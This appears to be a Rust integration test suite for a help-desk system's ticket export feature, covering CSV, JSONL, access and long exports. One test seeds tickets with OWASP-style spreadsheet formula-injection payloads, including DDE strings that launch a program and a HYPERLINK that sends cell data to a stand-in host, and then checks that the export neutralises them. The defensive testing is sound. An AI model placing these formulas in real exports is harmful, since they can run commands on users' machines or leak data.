//! Exports: what stands in them, who gets them, and how they are written when they are long.

use std::collections::BTreeSet;

use axum::http::StatusCode;
use serde_json::{Value, json};

use super::{Demo, ask, demo, finished, open, path};
use crate::{
    attachments::fetch,
    costs::multiply,
    support::{Session, path_of, text},
};

/// The file of a job.
pub(crate) async fn file(by: &Session, job: &Value) -> String {
    let file = by.get(&format!("{}/file", path(job))).await.expect(StatusCode::OK);
    let had = fetch(by, &text(&file, "url")).await;
    assert_eq!(had.status, StatusCode::OK);
    assert_eq!((had.body.len() as u64, &file["size"]), (job["file"]["size"].as_u64().unwrap(), &job["file"]["size"]));
    assert!(had.header("content-disposition").starts_with("attachment; filename=\"tickets-"), "{:?}", had.headers);
    String::from_utf8(had.body.to_vec()).expect("UTF-8")
}

/// Rows of CSV, as RFC 4180 reads them.
fn rows(csv: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut characters = csv.chars().peekable();
    while let Some(c) = characters.next() {
        match c {
            '"' if quoted && characters.peek() == Some(&'"') => cell.push(characters.next().unwrap()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    assert!(!quoted && cell.is_empty() && row.is_empty(), "a line that does not end");
    rows
}

/// What OWASP lists, and its kin.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u{3000}=1+1",
    "'=1+1",
    "\"=1+1",
    "\u{200B}=1+1",
    "-",
];

#[tokio::test(flavor = "multi_thread")]
async fn b8_no_cell_is_a_formula() {
    let Demo { desk, carl, ada, mia } = demo().await;
    let others = mia.list("/v1/tickets?limit=100").await.len();
    for formula in FORMULAS {
        carl.open(formula).await;
    }
    let plain = carl.open("Plain, with a \"quote\" and a comma").await;
    let changes = json!({ "tags": ["=cmd", "b"], "resolution_note": "first;=2\n=1+1\n\"x\"", "team": "-team" });
    ada.patch(&path_of(&plain), changes).await.expect(StatusCode::OK);
    let asked = ask(&mia, "/v1/exports", json!({ "format": "csv" })).await;
    let job = finished(&desk, &mia, &asked).await;
    assert_eq!((&job["state"], &job["done"]), (&json!("done"), &json!(others + FORMULAS.len() + 1)), "{job}");
    assert_eq!(job["file"]["content_type"], "text/csv; charset=utf-8");
    let csv = file(&mia, &job).await;
    let rows = rows(csv.strip_prefix('\u{FEFF}').expect("a mark, for Excel"));
    let column = |name: &str| rows[0].iter().position(|column| column == name).expect("a column");
    assert!(rows.iter().all(|row| row.len() == rows[0].len()));
    for cell in rows.iter().flatten() {
        let begins = cell.trim_start().chars().next().unwrap_or('x');
        assert!(!"=+-@＝＋－＠".contains(begins) && !cell.starts_with(['\t', '\r']), "{cell:?} is a formula");
    }
    let subjects: BTreeSet<_> = rows[1..].iter().map(|row| row[column("subject")].as_str()).collect();
    for formula in FORMULAS {
        // What nobody sees is no part of a subject.
        let bare = |text: &str| text.replace(['\'', '\u{200b}', '\u{feff}'], "").trim().to_owned();
        assert!(subjects.iter().any(|subject| bare(subject) == bare(formula)), "{formula:?} is lost");
    }
    let row = rows.iter().find(|row| row[column("id")] == text(&plain, "id")).expect("its row");
    assert_eq!(row[column("subject")], "Plain, with a \"quote\" and a comma");
    assert_eq!((row[column("tags")].as_str(), row[column("team")].as_str()), ("'=cmd,b", "'-team"));
    // Also to who splits rows at semicolons, to whom a line break within begins a row.
    assert_eq!(row[column("resolution_note")], "first;'=2\n'=1+1\n\"x\"");
    assert_eq!((row[column("status")].as_str(), row[column("version")].as_str()), ("new", "2"));
    let few = ask(
        &mia,
        "/v1/exports",
        json!({ "format": "csv", "columns": ["number", "subject"], "filter": { "status": ["closed"] } }),
    )
    .await;
    let few = finished(&desk, &mia, &few).await;
    assert_eq!(file(&mia, &few).await, "\u{FEFF}\"number\",\"subject\"\r\n", "nothing but the names");
}

#[tokio::test(flavor = "multi_thread")]
async fn json_lines_hold_what_the_asker_sees() {
    let Demo { desk, carl, ada, mia } = demo().await;
    let ticket = carl.open("Help").await;
    ada.note(&ticket, "Between us").await;
    ada.reply(&ticket, "Soon").await;
    open(&carl, 2).await;
    let asked = ask(
        &mia,
        "/v1/exports",
        json!({ "format": "jsonl", "messages": true, "filter": { "updated_since": ticket["created_at"] } }),
    )
    .await;
    mia.get(&format!("{}/file", path(&asked))).await;
    let job = finished(&desk, &mia, &asked).await;
    let lines: Vec<Value> = file(&mia, &job).await.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(lines.len(), 3);
    let line = lines.iter().find(|line| line["id"] == ticket["id"]).expect("its line");
    let said: Vec<_> = line["messages"].as_array().unwrap().iter().map(|message| text(message, "body")).collect();
    assert_eq!(
        (said, &line["messages_truncated"]),
        (vec!["Please help.".to_owned(), "Between us".into(), "Soon".into()], &json!(false))
    );
    let mut view = ada.read(&ticket).await;
    view["messages"] = line["messages"].clone();
    view["messages_truncated"] = json!(false);
    view["sla"] = line["sla"].clone();
    assert_eq!(*line, view, "as the ticket is read");
    let led = mia.get(&format!("{}/file?redirect=true", path(&job))).await;
    assert_eq!(led.status, StatusCode::SEE_OTHER);
    assert_eq!(fetch(&mia, led.header("location")).await.body.len() as u64, job["file"]["size"].as_u64().unwrap());
    // A week later it is gone, though the job is not.
    desk.advance("P8D").await;
    let mia = desk.sign_in("demo", "mia@demo.test").await;
    mia.get(&format!("{}/file", path(&job))).await.problem(StatusCode::NOT_FOUND);
    mia.get(&path(&job)).await.expect(StatusCode::OK);
}

/// More than a step takes, and more than a part of a file: a rest waits, parts are written, and become one file.
#[tokio::test(flavor = "multi_thread")]
async fn a_long_export_is_written_in_parts() {
    const TICKETS: u32 = 7_000;
    let Demo { desk, carl, mia, .. } = demo().await;
    let others = mia.list("/v1/tickets?limit=100").await.len();
    let subject = "A long subject, so that a line of it is long too. ".repeat(4);
    let ticket = carl.open(&subject).await;
    multiply(&desk, "demo", &ticket, 0, TICKETS - 1).await;
    let asked = ask(&mia, "/v1/exports", json!({ "format": "jsonl" })).await;
    let job = finished(&desk, &mia, &asked).await;
    assert_eq!((&job["state"], &job["done"]), (&json!("done"), &json!(others + TICKETS as usize)), "{job}");
    let file = file(&mia, &job).await;
    assert!(file.len() > 6 * 1024 * 1024, "{}", file.len());
    let ids: BTreeSet<_> = file.lines().map(|line| text(&serde_json::from_str::<Value>(line).expect("JSON"), "id")).collect();
    assert_eq!((ids.len(), file.lines().count()), (others + TICKETS as usize, others + TICKETS as usize), "each once");
}
